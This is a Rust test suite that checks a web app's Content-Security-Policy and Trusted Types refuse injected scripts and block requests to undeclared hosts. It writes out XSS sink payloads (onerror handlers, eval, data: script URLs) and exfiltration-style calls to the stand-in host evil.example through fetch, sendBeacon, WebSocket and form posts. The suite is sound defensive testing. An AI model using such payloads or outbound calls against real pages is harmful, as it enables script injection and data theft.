//! The browser as guard: whatever gets into the page, its Content-Security-Policy runs no foreign script and talks to no
//! foreign host.

use crate::support::{Page, World, ask, open};
use serde_json::Value;

/// Notes each violation's directive in `violations`, from now on.
const WATCH: &str = "window.violations = [];
    document.addEventListener('securitypolicyviolation', event => violations.push(event.effectiveDirective))";

/// Where a script is refused with an error: there need be no violation.
const REFUSED: &str = "outcome === 'TypeError' || outcome === 'EvalError'";

/// Tries a script and gives what became of it: its value, or the name of the error; then the violations so far, once there
/// are any or this holds. A server that sends the policy as a header, too, has each told twice.
async fn attempt(page: &Page, script: &str, or: &str) -> (String, Vec<String>) {
    // In a task of the page's own: within WebDriver's the browser lets `eval` pass.
    let tried = format!(
        "await new Promise(done => setTimeout(done)); violations.length = 0; let outcome;
        try {{ outcome = String(await (async () => {{ {script} }})()) }} catch (error) {{ outcome = error.name }}
        while (!({or}) && violations.length === 0) await new Promise(done => setTimeout(done, 10));
        return [outcome, ...new Set(violations)]"
    );
    let Value::Array(told) = page.script(&tried, vec![]).await else { panic!("{script}") };
    let mut told = told.into_iter().map(|text| text.as_str().unwrap_or_default().to_owned());
    (told.next().unwrap(), told.collect())
}

#[tokio::test]
async fn injected_scripts_do_not_run() {
    let world = World::start().await;
    let page = open(&world).await;
    page.script(WATCH, vec![]).await;
    // Trusted Types refuse the text before anything could run.
    for sink in [
        "document.body.innerHTML = '<img src=x onerror=\"window.ran = 1\">'",
        "const tag = document.createElement('script'); tag.text = 'window.ran = 1'; document.body.append(tag)",
        "const tag = document.createElement('script'); tag.src = 'data:text/javascript,window.ran=1'; document.body.append(tag)",
        "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
        "document.body.append(document.createRange().createContextualFragment('<script>window.ran = 1</script>'))",
        "trustedTypes.createPolicy('mine', { createHTML: text => text })",
        "eval('window.ran = 1')",
        "new Function('window.ran = 1')()",
        "setTimeout('window.ran = 1'); await 0",
    ] {
        let (outcome, _) = attempt(&page, sink, REFUSED).await;
        assert!(["TypeError", "EvalError"].contains(&outcome.as_str()), "{sink}: {outcome}");
    }
    // A document without a policy makes elements that Trusted Types never saw; the policy stops them all the same.
    let foreign = "const other = document.implementation.createHTMLDocument('');";
    for (element, directive) in [
        ("const tag = other.createElement('script'); tag.text = 'window.ran = 1';", "script-src-elem"),
        (
            "const tag = other.createElement('script'); tag.src = 'https://evil.example/x.js';",
            "script-src-elem",
        ),
        (
            "const tag = other.createElement('a'); tag.setAttribute('onclick', 'window.ran = 1'); setTimeout(() => tag.click());",
            "script-src-attr",
        ),
    ] {
        let (outcome, violations) =
            attempt(&page, &format!("{foreign} {element} document.body.append(tag)"), REFUSED).await;
        let is_refused = outcome == "TypeError" || violations.contains(&directive.to_owned());
        assert!(is_refused, "{element}: {outcome}, {violations:?}");
    }
    let (_, violations) =
        attempt(&page, "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))", "false").await;
    assert_eq!(violations, ["frame-src"]);
    let ran = page.script("return String(window.ran)", vec![]).await;
    assert_eq!(ran, "undefined");
}

#[tokio::test]
async fn undeclared_hosts_are_not_asked() {
    let world = World::start().await;
    let page = open(&world).await;
    page.script(WATCH, vec![]).await;
    for call in [
        "return fetch('https://evil.example/?sig')",
        "return fetch('https://evil.example/', { mode: 'no-cors', method: 'POST', body: 'sig' })",
        "const asked = new XMLHttpRequest(); asked.open('GET', 'https://evil.example/', false); asked.send()",
        "navigator.sendBeacon('https://evil.example/', 'sig')",
        "new WebSocket('wss://evil.example/')",
        "new EventSource('https://evil.example/')",
    ] {
        let (_, violations) = attempt(&page, call, "false").await;
        assert_eq!(violations, ["connect-src"], "{call}");
    }
    page.expect_in_console("connect-src").await; // There the policy is named as the reason.
    let form = "const form = document.createElement('form'); form.action = 'https://evil.example/'; form.method = 'post';
        document.body.append(form); form.submit()";
    assert_eq!(attempt(&page, form, "false").await.1, ["form-action"]);
    let base = "document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))";
    assert_eq!(attempt(&page, base, "false").await.1, ["base-uri"]);
}

#[tokio::test]
async fn the_policy_is_strict_and_every_file_of_the_first_load_has_its_hash() {
    let world = World::start().await;
    let path = format!("{}/", world.site.base());
    let index = ask(world.site.port(), "GET", &path, b"").await.unwrap();
    let index = String::from_utf8(index.body).unwrap();
    for weak in ["'unsafe-inline'", "'unsafe-eval'", "*;", "connect-src *"] {
        assert!(!index.contains(weak), "{weak}");
    }
    for strict in
        ["default-src 'none'", "require-trusted-types-for 'script'", "trusted-types tim-tester-worker\""]
    {
        assert!(index.contains(strict), "{strict}");
    }
    let tags: Vec<_> =
        index.split('<').filter(|tag| tag.starts_with("link ") || tag.starts_with("script")).collect();
    assert!(tags.len() >= 5, "{tags:?}");
    // What is named for later is fetched by name, hash included.
    for tag in tags.into_iter().filter(|tag| !tag.contains("prefetch") && !tag.contains("manifest")) {
        assert!(tag.contains("integrity=\"sha384-"), "{tag}");
        assert!(!tag.starts_with("script") || tag.contains(" src=\"./"), "an inline script: {tag}");
    }
}
